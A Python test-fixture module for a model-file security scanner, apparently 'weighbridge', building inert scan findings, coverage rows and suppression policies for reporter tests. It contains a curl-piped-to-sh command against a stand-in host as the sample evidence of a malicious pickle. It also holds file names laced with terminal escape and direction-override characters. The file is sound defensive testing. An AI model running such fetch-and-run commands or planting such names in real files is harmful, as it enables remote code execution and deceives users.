"""Runs built by hand, shared by the reporters' tests. Everything in them is inert."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import UTC, date, datetime
from functools import cache
from pathlib import Path

from weighbridge.core.artifact import Origin
from weighbridge.core.finding import Finding, Rule, Severity
from weighbridge.core.report import Coverage, Outcome, Report, Traffic
from weighbridge.knowledge.atlas_index import load_index
from weighbridge.knowledge.atlas_release import AtlasRelease
from weighbridge.knowledge.rules import load_rules
from weighbridge.policy import Policy, Suppression
from weighbridge.reporters.interface import Run, Scanned, TargetResult, Unreachable, scanned

ROOT = Path(__file__).resolve().parents[2]
LOCAL = Origin(kind="local", location="/repo/x")
TODAY = date(2026, 11, 21)
COMMAND = "posix.system('curl -s https://example.invalid/i.sh | sh')"


@cache
def rules() -> Mapping[str, Rule]:
    return load_rules(ROOT / "tests" / "data" / "rules")


@cache
def release() -> AtlasRelease:
    return load_index(ROOT / "signatures" / "atlas" / "index.json")


def run(*results: TargetResult, working_directory: str | None = "/repo") -> Run:
    return Run(
        tool_version="0.0.0",
        signatures_version="0.0.0",
        atlas_label=release().label,
        started=datetime(2026, 11, 21, 12, 0, tzinfo=UTC),
        seconds=2.0,
        results=results,
        working_directory=working_directory,
    )


def judged(report: Report, policy: Policy | None = None) -> Scanned:
    decision = (policy or Policy()).decide(report, rules(), today=TODAY)
    return scanned(report, decision, rules=rules(), release=release())


def row(
    *path: str, outcome: Outcome = Outcome.ANALYZED, detail: str = "", **values: int | str
) -> Coverage:
    return Coverage(
        path=path,
        format=str(values.get("format", "pickle")),
        outcome=outcome,
        size_bytes=int(values.get("size_bytes", 1000)),
        bytes_read=int(values.get("bytes_read", 100)),
        detail=detail,
    )


def shell_command(*path: str, offset: int = 1204) -> Finding:
    return Finding(
        rule="PKL901",
        path=path,
        subject="posix.system",
        evidence=COMMAND,
        offset=offset,
        length=2,
        route="opcode 37",
    )


def unknown_callable(name: str, *path: str, offset: int = 10) -> Finding:
    return Finding(rule="PKL902", path=path, subject=name, evidence=f"{name}(1, 2)", offset=offset)


def oddity(*path: str) -> Finding:
    return Finding(rule="GEN901", path=path, subject=path[-1], evidence="a pickle, named .txt")


def report(
    target: str,
    *findings: Finding,
    rows: tuple[Coverage, ...] = (),
    origin: Origin | None = None,
    traffic: Traffic | None = None,
) -> Report:
    return Report(
        target=target,
        origin=origin or Origin(kind="local", location=f"/repo/{target}"),
        findings=findings,
        coverage=rows or _rows_of(findings),
        traffic=traffic or Traffic(),
        seconds=1.8,
    )


def _rows_of(findings: tuple[Finding, ...]) -> tuple[Coverage, ...]:
    paths = {found.path[:depth] for found in findings for depth in range(1, len(found.path) + 1)}
    return tuple(row(*path) for path in sorted(paths))


def hub_failure() -> Scanned:
    """A repository with a shell command, an unknown callable, oddities and a safetensors twin."""
    member = ("pytorch_model.bin", "archive/data.pkl")
    files = (
        row("pytorch_model.bin", format="zip", size_bytes=3_100_000_000, bytes_read=130_000),
        row(*member),
        row("model.safetensors", format="safetensors", size_bytes=3_100_000_000, bytes_read=200_000),
        row("config.json", format="json", outcome=Outcome.OPAQUE, size_bytes=1200),
        row("README.md", format="text", outcome=Outcome.OPAQUE, size_bytes=9000),
    )
    findings = (
        oddity("README.md"),
        shell_command(*member),
        unknown_callable("acme.train.Thing", *member),
        Finding(rule="GEN902", path=member, subject="torch", evidence="torch._utils._rebuild_tensor_v2"),
    )
    origin = Origin(
        kind="huggingface",
        location="hf://acme/sentiment-xl",
        revision="3f9c2e1d00c0ffee00c0ffee00c0ffee00c0ffee",
        registry_verdicts={"ClamAV": "safe", "Picklescan": "unsafe"},
    )
    return judged(
        report(
            "hf://acme/sentiment-xl",
            *findings,
            rows=files,
            origin=origin,
            traffic=Traffic(requests=14, bytes_received=412_000),
        )
    )


def repeated_failure() -> Scanned:
    """A folder in which one call stands in forty members and eight callables are unknown."""
    members = [("models/a.pt", f"archive/part-{n:02}.pkl") for n in range(40)]
    commands = [shell_command(*path, offset=100 + n) for n, path in enumerate(members)]
    unknown = [unknown_callable(f"acme.layers.Layer{n}", *members[0], offset=500 + n) for n in range(8)]
    differing = Finding(
        rule="ZIP901",
        path=("models/a.pt",),
        subject="archive/data.pkl",
        evidence="central directory: archive/data.pkl\nlocal header:      archive/evil.pkl",
        offset=1_048_576,
        related=("archive/data.pkl", "archive/evil.pkl"),
    )
    files = (row("models/a.pt", format="zip", size_bytes=5_000_000), *(row(*path) for path in members))
    return judged(report("models", *commands, *unknown, differing, rows=files))


def clean() -> Scanned:
    member = ("model.pt", "archive/data.pkl")
    finding = Finding(rule="GEN902", path=member, subject="torch", evidence="torch.FloatStorage")
    files = (row("model.pt", format="zip", size_bytes=310_000_000, bytes_read=131_000), row(*member))
    return judged(report("model.pt", finding, rows=files))


def incomplete(policy: Policy | None = None) -> Scanned:
    files = (
        row("a.pt", size_bytes=2_000_000),
        row(
            "weights.7z",
            format="7z",
            outcome=Outcome.UNSUPPORTED,
            detail="needs an extra: pip install 'weighbridge[archives]'",
        ),
        row("b/1.pkl", outcome=Outcome.FAILED, detail="the file can't be read: Permission denied"),
        row("b/2.pkl", outcome=Outcome.FAILED, detail="the file can't be read: Permission denied"),
        row("bomb.gz", format="gzip", size_bytes=12_000),
        row(
            "bomb.gz", "bomb", outcome=Outcome.LIMITED, detail="expands to more than 200 times its size"
        ),
    )
    return judged(report("broken/", rows=files), policy)


def accepted() -> Scanned:
    """A failure that the policy accepts, beside one whose acceptance has expired."""
    policy = Policy(
        suppressions=(
            Suppression(
                rule="PKL901",
                artifact="models/*.pt",
                reason="written by our own trainer, see MLP-311",
                expires=date(2027, 1, 31),
                owner="ml-platform",
            ),
            Suppression(
                rule="PKL902", artifact="**", reason="while we migrate", expires=date(2026, 11, 20)
            ),
        )
    )
    member = ("models/a.pt", "data.pkl")
    return judged(report(".", shell_command(*member), unknown_callable("acme.Thing", *member)), policy)


def hostile() -> Scanned:
    """Names that try to paint the terminal, reverse it, fake our output or fill the screen."""
    name = "ok\x1b[2J\x1b[31m\u202etxt.exe\u200b\n\nPASS  everything  \r" + "x" * 300 + ".pkl"
    path = (name, "\udcff\udc80.pkl")
    finding = Finding(
        rule="PKL901",
        path=path,
        subject="posix.system\x1b]0;title\x07",
        evidence="posix.system('" + "A" * 2000 + "')\n" * 30,
        offset=0,
        route="\x9b31m",
    )
    return judged(report("\x1b[1mtarget\udcff", finding))


def gated() -> Unreachable:
    return Unreachable(
        target="hf://meta/gated-model",
        error="access to meta/gated-model is gated and this token has not been granted it; "
        "ask for access at the model's page, then set HF_TOKEN or run: hf auth login",
    )


def closed_at_low() -> Scanned:
    """A low finding that closes a gate set to low."""
    return judged(report("notes.txt", oddity("notes.txt")), Policy(fail_on=Severity.LOW))
